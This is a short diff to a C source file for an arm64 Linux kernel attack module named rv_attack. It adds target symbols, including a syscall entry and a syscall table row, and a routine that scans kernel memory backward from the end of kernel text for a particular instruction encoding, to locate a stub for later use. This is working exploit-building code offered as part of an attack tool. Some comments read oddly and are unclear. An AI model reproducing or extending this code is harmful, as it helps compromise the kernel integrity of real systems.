@@ -2,6 +2,7 @@
 /* rv_attack_arm64.c: one function for each kind of store that arm64 has. */
 #include <linux/errno.h>
 #include <linux/module.h>
+#include <linux/sizes.h>
 #include <asm/cpufeature.h>
 
 #include "rv_attack.h"
@@ -126,8 +127,21 @@ void rv_arch_close(void)
 }
 
 const char *const rv_arch_entry_symbol = "vectors";
+const char *const rv_arch_text_symbol = "__arm64_sys_swapoff";
+const unsigned int rv_arch_table_row = 250; /* one of those kept for architectures */
 
+/* The stub lies in the zeros before rodata; it rings by "ldr x17, [x16, #0x7a8]". */
 unsigned long rv_arch_gate(unsigned long entry, unsigned long lo, unsigned long hi)
 {
+	unsigned long end = rv_lookup("_etext"), p;
+	u32 insn;
+
+	for (p = end; end && p > end - SZ_64K;) {
+		p -= 4;
+		/* One page there has no memory: nothing but a plain load is answered. */
+		asm volatile("ldr %w0, [%1]" : "=r"(insn) : "r"(p));
+		if (insn == 0xf943d611)
+			return p & ~15ul;
+	}
 	return 0;
 }
